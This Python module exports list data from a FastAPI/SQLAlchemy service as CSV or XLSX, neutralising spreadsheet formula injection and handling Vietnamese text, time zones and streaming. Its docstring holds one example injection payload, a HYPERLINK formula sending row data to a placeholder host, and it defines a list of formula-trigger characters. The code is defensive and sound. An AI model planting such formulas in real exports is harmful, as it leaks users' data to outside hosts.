"""Spreadsheet exports that neither run what a record contains nor fail because of it.

A spreadsheet program treats a cell starting with `=`, `+`, `-` or `@` (or tab, CR before them)
as a formula: `=HYPERLINK("http://x"&B2,"x")` in an address would send the row's data away when
clicked (OWASP "CSV injection"). CSV cells with such text get a leading `'`, which spreadsheet
programs show as text; XLSX cells hold text as string cells, never formulas. Only text is
touched: numbers (negative ones too), dates and booleans stay what they are.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from collections.abc import AsyncIterable, AsyncIterator, Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import TYPE_CHECKING, Annotated, Any, Literal

from fastapi import Depends
from sqlalchemy import Executable, RowMapping
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession

if TYPE_CHECKING:
    from fastapi import Response

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# What an XLSX (XML 1.0) cell cannot hold: C0 controls other than tab, LF and CR. openpyxl raises
# IllegalCharacterError on them; older records may still contain them.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def csv_text(value: str) -> str:
    """Text as a CSV cell: a leading `'` when a spreadsheet would read it as a formula."""
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def csv_cell(value: Any) -> Any:
    """A value for `csv.writer`: None → empty, bool → true/false, dates ISO, text neutralised,
    numbers unchanged."""
    if type(value) is str:
        return csv_text(value)
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, date):  # datetime too
        return value.isoformat()
    if isinstance(value, int | float | Decimal):
        return value
    return csv_text(str(value))


def csv_line(values: Iterable[Any]) -> str:
    """One CSV record (CRLF-terminated, as RFC 4180 and Excel expect), every cell neutralised."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([csv_cell(v) for v in values])
    return buffer.getvalue()


def from_csv_text(value: str) -> str:
    """The inverse of `csv_text` for an importer, so an exported file can be imported back."""
    if value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


def xlsx_text(value: str) -> str:
    """Text an XLSX cell can hold: characters XML cannot carry become U+FFFD."""
    return _XLSX_ILLEGAL.sub("\ufffd", value)


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """Cells for `sheet.append` on a write-only openpyxl worksheet. Text becomes a string cell
    (openpyxl would otherwise store text starting with `=` as a formula); datetimes lose their
    offset (Excel has none: pass them in UTC); numbers, dates and booleans stay typed."""
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for value in values:
        if isinstance(value, datetime):
            row.append(value.replace(tzinfo=None))
        elif value is None or isinstance(value, bool | int | float | Decimal | date):
            row.append(value)
        else:
            cell = WriteOnlyCell(sheet, value=xlsx_text(str(value)))
            cell.data_type = "s"
            row.append(cell)
    return row


# --- Lists as spreadsheets: a column spec, CSV streamed, XLSX in write-only mode ----------------

# Vietnam keeps one offset all year (no daylight saving): record times are shown in it.
VIETNAM = timezone(timedelta(hours=7), "ICT")
YES, NO = "Có", "Không"
CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# The 200 response of an export route, for `responses=` (the OpenAPI names both media types).
EXPORT_RESPONSE: dict[int | str, dict[str, Any]] = {
    200: {
        "description": "CSV (UTF-8 with a BOM) or XLSX, named in Content-Disposition",
        "content": {"text/csv": {}, XLSX_TYPE: {}},
    }
}
ExportFormat = Literal["csv", "xlsx"]


def _export_format(format: ExportFormat = "csv") -> ExportFormat:
    return format


# `?format=` as a dependency, so that it follows the list's own filters (a dependency too) in
# the export's parameters, as it always has.
FormatDep = Annotated[ExportFormat, Depends(_export_format)]

_WIDTHS = {"text": 24, "int": 12, "money": 18, "date": 12, "datetime": 19}
_XLSX_FORMATS = {"money": "#,##0", "int": "0", "date": "dd/mm/yyyy", "datetime": "dd/mm/yyyy hh:mm"}


@dataclass(frozen=True)
class Column:
    """One exported column: its Vietnamese header, where its value comes from (a key of the row,
    or a function of it) and, for an enumeration, the label of each code. A code without a label
    is exported as it is: an export never fails because of what a record holds."""

    header: str
    value: str | Callable[[Any], Any]
    labels: Mapping[str, str] | None = None
    kind: Literal["text", "int", "money", "date", "datetime"] = "text"
    width: int | None = None

    def of(self, row: Any) -> Any:
        if isinstance(self.value, str):
            raw = row[self.value] if _is_mapping(row) else getattr(row, self.value)
        else:
            raw = self.value(row)
        # the common cells first, by exact type (a million-row export asks 20 million times)
        kind = type(raw)
        if raw is None or kind is int:
            return raw if self.labels is None or raw is None else self._label(raw)
        if kind is str:
            return raw if self.labels is None else self.labels.get(raw, raw)
        if isinstance(raw, bool):
            return YES if raw else NO
        if self.labels is not None:
            return self._label(raw)
        if isinstance(raw, datetime):
            # Every service stores its timestamps in UTC; SQLite hands them back without the
            # zone (a Core column of `DateTime(timezone=True)` there is naive): UTC as well.
            aware = raw if raw.tzinfo is not None else raw.replace(tzinfo=UTC)
            return aware.astimezone(VIETNAM).replace(tzinfo=None)
        if isinstance(raw, uuid.UUID):
            return str(raw)
        return raw

    def _label(self, raw: Any) -> str:
        key = getattr(raw, "value", raw)  # an enum member or its code
        labels = self.labels or {}
        return labels.get(str(key), str(key))


_MAPPING_TYPES: dict[type, bool] = {}


def _is_mapping(row: Any) -> bool:
    """isinstance(row, Mapping), remembered per type (the ABC check is the slow part)."""
    kind = type(row)
    known = _MAPPING_TYPES.get(kind)
    if known is None:
        known = _MAPPING_TYPES[kind] = isinstance(row, Mapping)
    return known


def _csv_value(value: Any) -> Any:
    if type(value) is str:
        return csv_text(value)
    if isinstance(value, datetime):  # local time, as Excel reads it
        return value.isoformat(sep=" ", timespec="seconds")
    return csv_cell(value)


def csv_record(columns: Sequence[Column], row: Any) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([_csv_value(column.of(row)) for column in columns])
    return buffer.getvalue()


async def csv_stream(
    columns: Sequence[Column], rows: AsyncIterable[Any], *, chunk_rows: int = 500
) -> AsyncIterator[bytes]:
    """UTF-8 with a BOM (Excel otherwise reads the Vietnamese as a legacy code page), the header
    row, then records in chunks as the rows arrive."""
    yield ("\ufeff" + csv_line(c.header for c in columns)).encode()
    # one writer over one buffer per chunk (a writer per record cost a fifth of a large export)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    pending = 0
    async for row in rows:
        writer.writerow([_csv_value(column.of(row)) for column in columns])
        pending += 1
        if pending >= chunk_rows:
            yield buffer.getvalue().encode()
            buffer.seek(0)
            buffer.truncate()
            pending = 0
    if pending:
        yield buffer.getvalue().encode()


async def xlsx_document(
    columns: Sequence[Column], rows: AsyncIterable[Any], *, sheet: str
) -> bytes:
    """One sheet: a bold, frozen header row, widths by column kind, dates as dates and money as
    whole numbers with thousands separators. Write-only mode keeps memory flat on large lists."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    ws = workbook.create_sheet(_sheet_title(sheet))
    ws.freeze_panes = "A2"
    for index, column in enumerate(columns, start=1):
        width = column.width or max(_WIDTHS[column.kind], min(len(column.header) + 2, 40))
        ws.column_dimensions[get_column_letter(index)].width = width
    bold = Font(bold=True)
    header = []
    for column in columns:
        cell = WriteOnlyCell(ws, value=xlsx_text(column.header))
        cell.font = bold
        header.append(cell)
    ws.append(header)
    async for row in rows:
        cells = xlsx_row(ws, [column.of(row) for column in columns])
        for i, column in enumerate(columns):
            number_format = _XLSX_FORMATS.get(column.kind)
            value = cells[i]
            if number_format and isinstance(value, int | float | Decimal | date):
                cell = WriteOnlyCell(ws, value=value)
                cell.number_format = number_format
                cells[i] = cell
        ws.append(cells)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _sheet_title(title: str) -> str:
    """Excel refuses sheet names longer than 31 characters or holding []:*?/\\."""
    return re.sub(r"[\[\]:*?/\\]", " ", title)[:31] or "Sheet1"


def content_disposition(filename: str) -> str:
    """`attachment` with an ASCII fallback and the exact name as RFC 6266 `filename*`."""
    from urllib.parse import quote

    from kc_common.text import fold

    ascii_name = re.sub(r"[^A-Za-z0-9._-]+", "-", fold(filename)) or "export"
    return f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(filename, safe='')}"


def export_filename(stem: str, format: str, today: date | None = None) -> str:
    """`doanh-nghiep-2026-11-30.xlsx`: the list and the day (in Vietnam) it was exported."""
    day = today or datetime.now(VIETNAM).date()
    return f"{stem}-{day.isoformat()}.{format}"


async def export_response(
    format: str,
    columns: Sequence[Column],
    rows: AsyncIterable[Any],
    *,
    stem: str,
    sheet: str,
) -> Response:
    """The HTTP response of a list export: CSV streamed as rows arrive, or an XLSX document."""
    from fastapi.responses import Response, StreamingResponse

    disposition = {"Content-Disposition": content_disposition(export_filename(stem, format))}
    if format == "xlsx":
        body = await xlsx_document(columns, rows, sheet=sheet)
        return Response(body, media_type=XLSX_TYPE, headers=disposition)
    return StreamingResponse(csv_stream(columns, rows), media_type=CSV_TYPE, headers=disposition)


async def stream_select(
    engine: AsyncEngine, statement: Executable, *, batch: int = 1000
) -> AsyncIterator[RowMapping]:
    """The rows of a query read in batches on a connection of its own: a streamed response is
    still being sent after the request's session has closed."""
    async with engine.connect() as conn:
        result = await conn.stream(statement.execution_options(yield_per=batch))
        async for row in result.mappings():
            yield row


def session_engine(session: AsyncSession) -> AsyncEngine:
    engine = session.bind
    if not isinstance(engine, AsyncEngine):  # pragma: no cover - sessions are made on engines
        raise TypeError("the session is not bound to an engine")
    return engine
